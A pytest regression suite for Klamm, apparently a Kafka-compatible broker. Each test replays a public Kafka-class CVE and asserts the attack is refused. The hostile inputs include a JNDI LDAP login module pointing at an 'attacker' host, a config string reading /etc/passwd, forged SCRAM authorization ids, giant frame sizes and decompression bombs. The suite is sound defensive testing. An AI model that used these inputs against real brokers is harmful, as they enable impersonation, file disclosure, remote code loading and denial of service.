"""Faults of Kafka and of systems like it that became public, each as a test of Klamm.

The table in `docs/threat-model.md` names the tests, and the records that do not apply.
"""

import base64
import itertools
import json
import pickle
import struct
import tracemalloc

import pytest

from harness.access import (
    CLUSTER_DENIED,
    TOPIC_DENIED,
    TRANSACTIONAL_ID_DENIED,
    allow,
    connect_as,
    secured_node,
    set_entries,
)
from harness.decoys import decoy_maker
from harness.floods import floods
from harness.inprocess import NodeThread
from harness.wire import Wire, batch, produce_fields
from klamm.client.core.buffer_pool import BufferPool
from klamm.model.acls import AclOperation as Op
from klamm.model.acls import AclPermission, PatternType
from klamm.model.acls import AclResourceType as Type
from klamm.model.broker_configs import validate_dynamic_broker_config
from klamm.model.errors import ConfigError, ErrorCode, KlammError, ProtocolError, RemoteProtocolError
from klamm.model.ids import Uuid
from klamm.protocol.apis import BY_NAME
from klamm.protocol.budget import elements_max
from klamm.protocol.codec import decode
from klamm.protocol.framing import OwnedFrames
from klamm.records.compression import Codec, compress, decompress
from klamm.security.core.acl import AccessControlEntry
from klamm.security.core.authorizer import StandardAuthorizer
from klamm.security.core.jaas import parse_jaas
from klamm.security.core.plain import PlainServer
from klamm.security.core.principal import Principal
from klamm.security.core.refusal import InvalidCredentials, LoginRefused
from klamm.security.core.scram import SCRAM_SHA_256, ScramClient, ScramServer, make_keys
from klamm.security.core.secret import Secret
from klamm.security.login import credentials_from_jaas
from klamm.server.boot.config import embedded_properties, parse_config
from klamm.server.boot.config_checks import refuse_open_listeners
from klamm.server.requests.routes import routes

PASSWORD = Secret("pencil")
SASL = (
    "listeners=PLAINTEXT://127.0.0.1:0,CLIENTS://127.0.0.1:0,CONTROLLER://127.0.0.1:0",
    "listener.security.protocol.map=PLAINTEXT:PLAINTEXT,CONTROLLER:PLAINTEXT,CLIENTS:SASL_PLAINTEXT",
)


@pytest.fixture(scope="module")
def secured(tmp_path_factory):
    with secured_node(tmp_path_factory.mktemp("secured")) as node:
        yield node


def config_of(*overrides: str):
    return parse_config(embedded_properties("/nowhere", 0), overrides)


def scram_server(nonce: str = "server") -> ScramServer:
    keys = make_keys(SCRAM_SHA_256, PASSWORD, b"salt", 4096)
    return ScramServer(
        SCRAM_SHA_256,
        lambda user, _token: keys if user == "alice" else None,
        nonce=nonce,
        make_decoy=decoy_maker(SCRAM_SHA_256),
    )


# Logins


def test_cve_2017_12610_an_authorization_id_of_another_user_is_refused():
    with pytest.raises(LoginRefused, match="different from username"):
        PlainServer({"alice": PASSWORD}).step(b"bob\0alice\0pencil")
    server = scram_server()
    with pytest.raises((LoginRefused, InvalidCredentials)):
        log_in_as(server, "bob")
    assert not server.complete
    server = scram_server()
    log_in_as(server, "alice")
    assert server.complete


def log_in_as(server: ScramServer, authorization_id: str) -> None:
    """Log alice in with a correct proof over an authorization id."""
    header = f"n,a={authorization_id},"
    salted = SCRAM_SHA_256.salt_password(b"pencil", b"salt", 4096)
    challenge = server.step(f"{header}n=alice,r=client".encode()).decode()
    final = f"c={base64.b64encode(header.encode()).decode()},r=clientserver"
    signed = f"n=alice,r=client,{challenge},{final}".encode()
    client_key = SCRAM_SHA_256.sign(salted, b"Client Key")
    signature = SCRAM_SHA_256.sign(SCRAM_SHA_256.hash(client_key), signed)
    proof = bytes(left ^ right for left, right in zip(client_key, signature, strict=True))
    server.step(f"{final},p={base64.b64encode(proof).decode()}".encode())


def test_cve_2021_38153_secrets_are_compared_in_constant_time(monkeypatch):
    compared = []
    monkeypatch.setattr("hmac.compare_digest", lambda a, b: compared.append((a, b)) or a == b)
    PlainServer({"alice": PASSWORD}).step(b"\0alice\0pencil")
    assert compared == [(b"pencil", b"pencil")]
    with pytest.raises(LoginRefused):
        PlainServer({}).step(b"\0nobody\0pencil")
    assert len(compared) == 2  # an unknown user costs a comparison, too
    server, client = scram_server(), ScramClient(SCRAM_SHA_256, "alice", PASSWORD, nonce="client")
    client.step(server.step(client.step(server.step(client.first()))))
    assert len(compared) >= 4


def test_cve_2024_56128_the_final_nonce_must_be_the_servers():
    server, client = scram_server(), ScramClient(SCRAM_SHA_256, "alice", PASSWORD, nonce="client")
    final = client.step(server.step(client.first()))
    with pytest.raises((LoginRefused, InvalidCredentials)):
        server.step(final.replace(b"r=clientserver", b"r=clientserves"))
    assert not server.complete


def test_cve_2026_33557_and_110985_a_bearer_listener_without_keys_does_not_start():
    with pytest.raises(ConfigError, match=r"sasl\.oauthbearer\.jwks\.endpoint\.url"):
        config_of(*SASL, "listener.name.clients.sasl.enabled.mechanisms=OAUTHBEARER")


def test_cve_2025_61673_a_request_without_a_login_is_not_served(tmp_path):
    jaas = 'org.apache.kafka.common.security.plain.PlainLoginModule required user_alice="pencil";'
    settings = (
        "listener.name.clients.sasl.enabled.mechanisms=PLAIN",
        f"listener.name.clients.plain.sasl.jaas.config={jaas}",
    )
    with NodeThread(tmp_path, *SASL, *settings) as node:
        for api, version in (("metadata", 9), ("produce", 9), ("sasl_authenticate", 1)):
            with Wire(node.node.addresses["CLIENTS"][1]) as wire:
                wire.send(api, version)
                assert wire.is_closed_by_peer()


def test_cve_2026_10142_a_client_believes_no_frame_size_of_a_server():
    frames = OwnedFrames(4, 1_000_000)
    with pytest.raises(RemoteProtocolError, match="larger than the limit"):
        frames.feed(struct.pack(">i", 2**31 - 1))
    frames = OwnedFrames(4, 2**31 - 1)
    tracemalloc.start()
    try:
        frames.feed(struct.pack(">i", 2**31 - 1) + bytes(100))
        assert tracemalloc.get_traced_memory()[1] < 4_000_000
    finally:
        tracemalloc.stop()


def test_cve_2026_10143_a_client_bounds_the_iterations_that_a_server_requires():
    client = ScramClient(SCRAM_SHA_256, "alice", PASSWORD, nonce="client")
    client.first()
    salt = base64.b64encode(b"salt").decode()
    with pytest.raises(InvalidCredentials, match="iterations"):
        client.step(f"r=clientserver,s={salt},i=999999999".encode())


# Rights


@pytest.mark.parametrize("kind", ["broker", "controller"])
def test_cve_2018_1288_and_2023_50976_every_api_declares_its_right(kind):
    from klamm.server.requests.access.rights import RIGHTS

    undeclared = [route.api.name for route in routes(kind, authorized=True).values() if route.api.name not in RIGHTS]
    assert undeclared == []


def test_cve_2018_1288_a_fetch_as_a_replica_needs_more_than_read(secured):
    with Wire(secured.port) as admin:
        topic = admin.create_topic()
        admin.produce(topic, batch(b"secret"))
    set_entries(secured, allow("User:eve", [(Type.TOPIC, topic, Op.READ)]))
    with connect_as(secured, "User:eve") as eve:
        assert eve.fetch(topic, 0).error_code == 0
        [answer] = eve.call(
            "fetch",
            12,
            replica_id=0,
            max_bytes=1_000_000,
            topics=[
                {"topic": topic, "partitions": [{"partition": 0, "fetch_offset": 0, "partition_max_bytes": 100_000}]}
            ],
        ).responses
        assert answer.partitions[0].error_code in (TOPIC_DENIED, CLUSTER_DENIED)
        assert not answer.partitions[0].records


def test_cve_2018_17196_the_batch_decides_whether_it_is_transactional(secured):
    with Wire(secured.port) as admin:
        topic = admin.create_topic()
    set_entries(secured, allow("User:eve", [(Type.TOPIC, topic, Op.WRITE)]))
    records = batch(b"x", transactional=True, producer_id=1, producer_epoch=0, base_sequence=0)
    with connect_as(secured, "User:eve") as eve:
        # The request has no transactional id, but its batch is transactional.
        reply = eve.call("produce", 9, **produce_fields(topic, records))
        assert reply.responses[0].partition_responses[0].error_code == TRANSACTIONAL_ID_DENIED


def test_cve_2024_27309_removing_one_of_two_acls_leaves_the_other():
    deny = AccessControlEntry(Type.TOPIC, "t", PatternType.LITERAL, "User:eve", "*", Op.READ, AclPermission.DENY)
    permit = AccessControlEntry(Type.TOPIC, "t", PatternType.LITERAL, "User:*", "*", Op.READ, AclPermission.ALLOW)
    other = AccessControlEntry(Type.TOPIC, "t", PatternType.LITERAL, "User:bob", "*", Op.READ, AclPermission.ALLOW)
    ids = {Uuid(number.to_bytes(16)): entry for number, entry in enumerate((deny, permit, other), 1)}
    removed = Uuid((3).to_bytes(16))
    for order in itertools.permutations(ids):
        authorizer = StandardAuthorizer(super_users=(), allow_everyone_if_no_acl_found=False)
        for entry_id in order:
            authorizer.update({entry_id: ids[entry_id]})
        authorizer.update({removed: None})
        assert not authorizer.authorize(Principal("User", "eve"), "h", Op.READ, Type.TOPIC, "t").allowed
        assert authorizer.authorize(Principal("User", "carol"), "h", Op.READ, Type.TOPIC, "t").allowed


# Memory and crashes


@pytest.mark.parametrize("api", ["Metadata", "ApiVersions", "SaslAuthenticate", "Fetch", "CreateTopics"])
def test_cve_2022_34917_declared_counts_allocate_nothing(api):
    declared = BY_NAME[api]
    version = declared.versions[1] if isinstance(declared.versions, tuple) else max(declared.versions)
    hostile = [b"\xff\xff\xff\xff\x0f" * 4, struct.pack(">i", 2**31 - 1) * 4, b"\x7f\xff\xff\xff" + bytes(8)]
    tracemalloc.start()
    try:
        for data in hostile:
            for prefix in range(8):
                try:
                    decode(declared.request, version, memoryview(bytes(prefix) + data), 0)
                except ProtocolError:
                    continue
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()


def test_cve_2026_111108_and_111115_elements_of_one_request_are_bounded(secured):
    """`tests/server/test_array_floods.py` measures memory and time for every array of every API."""
    flood = next(flood for flood in floods() if flood.api.name == "Metadata")
    for count, is_served in ((elements_max(flood.api.key), True), (elements_max(flood.api.key) + 1, False)):
        with Wire(secured.port) as wire:
            wire.send_frame(flood.request(count))
            # A refusal is an error of the whole request, without brokers.
            assert (b"127.0.0.1" in wire.receive_frame()) is is_served
    with Wire(secured.port) as wire:
        assert wire.call("api_versions", 0).error_code == 0


def test_cve_2026_83525_requests_with_empty_lists_end_no_controller(secured):
    port = secured.node.addresses["CONTROLLER"][1]
    for version in (0, 1):
        with Wire(port) as wire:
            wire.send("fetch_snapshot", version, topics=[])
            wire.receive_frame()
    for api in ("vote", "begin_quorum_epoch", "end_quorum_epoch"):
        with Wire(port) as wire:
            wire.send(api, 0, topics=[])
            wire.receive_frame()
    with Wire(port) as wire:
        wire.send("describe_quorum", 0, topics=[])
        wire.receive_frame()
    with Wire(secured.port) as wire:
        assert wire.create_topic()
    assert secured.node.failure is None


@pytest.mark.parametrize("codec", [Codec.GZIP, Codec.SNAPPY, Codec.LZ4, Codec.ZSTD])
def test_cve_2023_34455_and_2026_111073_decompression_is_bounded(codec):
    packed = compress(codec, bytes(20_000_000))
    with pytest.raises(KlammError) as refusal:
        decompress(codec, packed, limit=1_000_000)
    assert refusal.value.code == ErrorCode.MESSAGE_TOO_LARGE


def test_cve_2026_35554_a_buffer_is_not_used_again_while_a_view_of_it_is_in_use():
    pool = BufferPool(4)
    buffer = bytearray(100)
    in_flight = memoryview(buffer)
    pool.give(buffer)
    assert pool.take(100) is None
    in_flight.release()
    assert pool.take(100) is buffer


# What peers and files may name


@pytest.mark.parametrize(
    "setting",
    [
        "sasl.jaas.config",
        "listener.name.clients.plain.sasl.jaas.config",
        "sasl.login.class",
        "sasl.oauthbearer.jwks.endpoint.url",
        "sasl.server.callback.handler.class",
        "ssl.engine.factory.class",
    ],
)
def test_cve_2023_25194_and_2025_27817_to_19_peers_set_no_classes_urls_or_logins(setting):
    with pytest.raises(ConfigError):
        validate_dynamic_broker_config(setting, "com.sun.security.auth.module.JndiLoginModule", per_broker=True)


def test_cve_2023_25194_a_jaas_line_loads_no_class():
    module = parse_jaas('com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker";')
    with pytest.raises(ConfigError, match="needs ScramLoginModule"):
        credentials_from_jaas("SCRAM-SHA-256", module, "sasl.jaas.config")


def test_cve_2024_31141_config_providers_read_no_files():
    with pytest.raises(ConfigError, match="config provider"):
        config_of("config.providers=file", "super.users=${file:/etc/passwd:root}")


# Secrets


def test_cve_2026_33558_2023_24619_and_2019_12399_secrets_are_not_printed(tmp_path, capfd):
    secret = Secret("top-secret")
    texts = [repr(secret), str(secret), f"{secret}", f"{secret!r}", f"{[secret]}", f"{ {'a': secret} }"]
    assert "top-secret" not in "".join(texts)
    with pytest.raises(TypeError):
        pickle.dumps(secret)
    with pytest.raises(TypeError):
        json.dumps({"password": secret})
    jaas = 'org.apache.kafka.common.security.plain.PlainLoginModule required user_alice="top-secret";'
    settings = (
        *SASL,
        "listener.name.clients.sasl.enabled.mechanisms=PLAIN",
        f"listener.name.clients.plain.sasl.jaas.config={jaas}",
        "connection.failed.authentication.delay.ms=0",
    )
    from klamm.telemetry import Level, configure

    configure(Level.DEBUG)
    try:
        with NodeThread(tmp_path, *settings) as node:
            for password in ("top-secret", "top-secret-not"):
                with Wire(node.node.addresses["CLIENTS"][1]) as wire:
                    wire.call("sasl_handshake", 1, mechanism="PLAIN")
                    wire.call("sasl_authenticate", 1, auth_bytes=f"\0alice\0{password}".encode())
    finally:
        configure(Level.INFO)
    captured = capfd.readouterr()
    assert "login refused" in captured.err
    assert "top-secret" not in captured.err + captured.out


# Defaults


def test_cve_2026_82266_an_open_listener_needs_a_setting_that_says_so():
    with pytest.raises(ConfigError, match=r"klamm\.insecure\.listeners"):
        refuse_open_listeners(config_of("listeners=PLAINTEXT://0.0.0.0:9092,CONTROLLER://127.0.0.1:0"))


@pytest.mark.parametrize(
    "name", ["ssl.client.auht", "listener.name.plaintext.ssl.keystore.locaton", "sasl.enabled.mechs"]
)
def test_cve_2023_30450_a_mistyped_security_setting_is_not_lost(name):
    with pytest.raises(ConfigError, match="is not a broker setting"):
        config_of(f"{name}=x")
